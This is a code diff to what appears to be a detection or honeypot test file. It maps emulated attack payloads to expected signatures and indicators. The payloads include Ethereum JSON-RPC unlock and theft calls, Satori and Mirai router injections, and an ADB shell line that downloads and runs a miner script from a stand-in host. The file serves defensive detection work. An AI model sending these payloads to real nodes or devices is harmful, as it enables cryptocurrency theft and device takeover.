@@ -63,6 +63,22 @@ const std::vector<uint16_t> upnp_ports{52869};
 const std::vector<uint16_t> hg532_ports{37215};
 const std::vector<uint16_t> any_port{};
 
+// The ports each protocol is read on by default (--emulate, docs/responder.md).
+const std::vector<uint16_t> ethereum_read{8545};
+const std::vector<uint16_t> claymore_read{3333};
+const std::vector<uint16_t> http_read{80, 8080, 37215, 52869};
+const std::vector<uint16_t> adb_read{5555};
+
+// The addresses the Ethereum templates name: the victim's account and the thief's.
+const std::string victim = "0x3f1a0c58b9f5e6a4c2d1b0e9f8a7c6b5d4e3f201";
+const std::string thief = "0x9e4b1d2c3a4f5e6d7c8b9a0f1e2d3c4b5a697887";
+
+/** A JSON-RPC call's step for a reader of Ethereum's JSON-RPC, and for a reader of plain HTTP
+ *  (a POST sent to a web server's port is a whole HTTP request all the same). */
+std::vector<expected_step> jsonrpc_steps(const char* step) {
+  return {{step, ethereum_read}, {"http_request", http_read}};
+}
+
 /** A JSON-RPC call's rule on the JSON-RPC ports, and on every port the rule that names
  *  jsonrpc_post's Go-http-client agent a generic client (tool=http_client). */
 std::vector<expected_signature> jsonrpc_rules(const char* rule) {
@@ -76,44 +92,56 @@ std::vector<payload_template> make_templates() {
       {"eth_accounts",
        "JSON-RPC account discovery",
        jsonrpc_call("eth_accounts", "[]"),
-       jsonrpc_rules("eth-accounts")},
+       jsonrpc_rules("eth-accounts"),
+       jsonrpc_steps("eth_recon")},
       {"eth_blockNumber",
        "JSON-RPC node probe",
        jsonrpc_call("eth_blockNumber", "[]"),
-       jsonrpc_rules("eth-blocknumber")},
+       jsonrpc_rules("eth-blocknumber"),
+       jsonrpc_steps("eth_recon")},
       {"net_version",
        "JSON-RPC network probe",
        jsonrpc_call("net_version", "[]"),
-       jsonrpc_rules("net-version")},
+       jsonrpc_rules("net-version"),
+       jsonrpc_steps("eth_recon")},
       {"eth_getBalance",
        "JSON-RPC balance check",
        jsonrpc_call("eth_getBalance",
                     "[\"0x3f1a0c58b9f5e6a4c2d1b0e9f8a7c6b5d4e3f201\",\"latest\"]"),
-       jsonrpc_rules("eth-getbalance")},
+       jsonrpc_rules("eth-getbalance"),
+       jsonrpc_steps("eth_recon")},
       {"personal_unlockAccount",
        "JSON-RPC unlock by dictionary",
        jsonrpc_call("personal_unlockAccount",
                     "[\"0x3f1a0c58b9f5e6a4c2d1b0e9f8a7c6b5d4e3f201\",\"123456\",600]"),
-       jsonrpc_rules("personal-unlockaccount")},
+       jsonrpc_rules("personal-unlockaccount"),
+       jsonrpc_steps("eth_unlock"),
+       {{"eth_passphrase", "", ethereum_read}}},  // the passphrase's text withheld
       {"eth_sendTransaction",
        "JSON-RPC theft from an unlocked account",
        jsonrpc_call("eth_sendTransaction",
                     "[{\"from\":\"0x3f1a0c58b9f5e6a4c2d1b0e9f8a7c6b5d4e3f201\","
                     "\"to\":\"0x9e4b1d2c3a4f5e6d7c8b9a0f1e2d3c4b5a697887\",\"gas\":\"0x5208\","
                     "\"value\":\"0x1bc16d674ec80000\"}]"),
-       jsonrpc_rules("eth-sendtransaction")},
+       jsonrpc_rules("eth-sendtransaction"),
+       jsonrpc_steps("eth_send"),
+       {{"eth_recipient", thief, ethereum_read}, {"eth_sender", victim, ethereum_read}}},
       {"personal_newAccount",
        "JSON-RPC hijack: an account for the attacker",
        jsonrpc_call("personal_newAccount", "[\"ppp\"]"),
-       jsonrpc_rules("personal-newaccount")},
+       jsonrpc_rules("personal-newaccount"),
+       jsonrpc_steps("eth_miner")},
       {"miner_setEtherbase",
        "JSON-RPC hijack: mining reward to the attacker",
        jsonrpc_call("miner_setEtherbase", "[\"0x9e4b1d2c3a4f5e6d7c8b9a0f1e2d3c4b5a697887\"]"),
-       jsonrpc_rules("miner-setetherbase")},
+       jsonrpc_rules("miner-setetherbase"),
+       jsonrpc_steps("eth_miner"),
+       {{"eth_etherbase", thief, ethereum_read}}},
       {"claymore_getstat1",
        "Claymore miner management status request",
        "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat1\"}\n",
-       {{"claymore-getstat1", claymore_ports}}},
+       {{"claymore-getstat1", claymore_ports}},
+       {{"miner_status", claymore_read}}},
       {"upnp_satori",
        "Realtek UPnP AddPortMapping injection downloading Satori",
        soap_post("/picsdesc.xml", "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping",
@@ -129,7 +157,9 @@ std::vector<payload_template> make_templates() {
         {"wget-http", any_port},
         {"mirai-family-binary", any_port},
         {"bins-directory-binary", any_port},
-        {"selfrep-marker", any_port}}},
+        {"selfrep-marker", any_port}},
+       {{"http_request", http_read}},
+       {{"url", "http://198.51.100.7/bins/satori.mips", http_read}}},
       {"hg532_satori",
        "Huawei HG532 DeviceUpgrade injection downloading a Mirai variant",
        soap_post("/ctrlt/DeviceUpgrade_1",
@@ -143,11 +173,14 @@ std::vector<payload_template> make_templates() {
         {"busybox-wget-tftp", any_port},
         {"mirai-family-binary", any_port},
         {"bins-directory-binary", any_port},
-        {"selfrep-marker", any_port}}},
+        {"selfrep-marker", any_port}},
+       // busybox's "wget -g HOST -r FILE" is no URL a reader can take as one: no indicator.
+       {{"http_request", http_read}}},
       {"adb_cnxn",
        "ADB connect (CNXN, protocol 0x01000000, host::)",
        adb_cnxn,
-       {{"adb-cnxn-legacy", adb_ports}, {"adb-host-banner", adb_ports}}},
+       {{"adb-cnxn-legacy", adb_ports}, {"adb-host-banner", adb_ports}},
+       {{"adb_connect", adb_read}}},
       {"adb_miner",
        "ADB connect and a shell that downloads and starts a miner",
        adb_cnxn + adb_message("OPEN", 1, 0,
@@ -161,7 +194,12 @@ std::vector<payload_template> make_templates() {
         {"adb-shell-data-local-tmp", adb_ports},
         {"adb-shell-chmod-run", adb_ports},
         {"wget-http", any_port},
-        {"busybox-wget-tftp", any_port}}},
+        {"busybox-wget-tftp", any_port}},
+       {{"adb_connect", adb_read}, {"adb_shell", adb_read}},
+       {{"shell_command",
+         "cd /data/local/tmp; busybox wget http://198.51.100.7/ad.sh; chmod 755 ad.sh; ./ad.sh",
+         adb_read},
+        {"url", "http://198.51.100.7/ad.sh", adb_read}}},
   };
 }
 
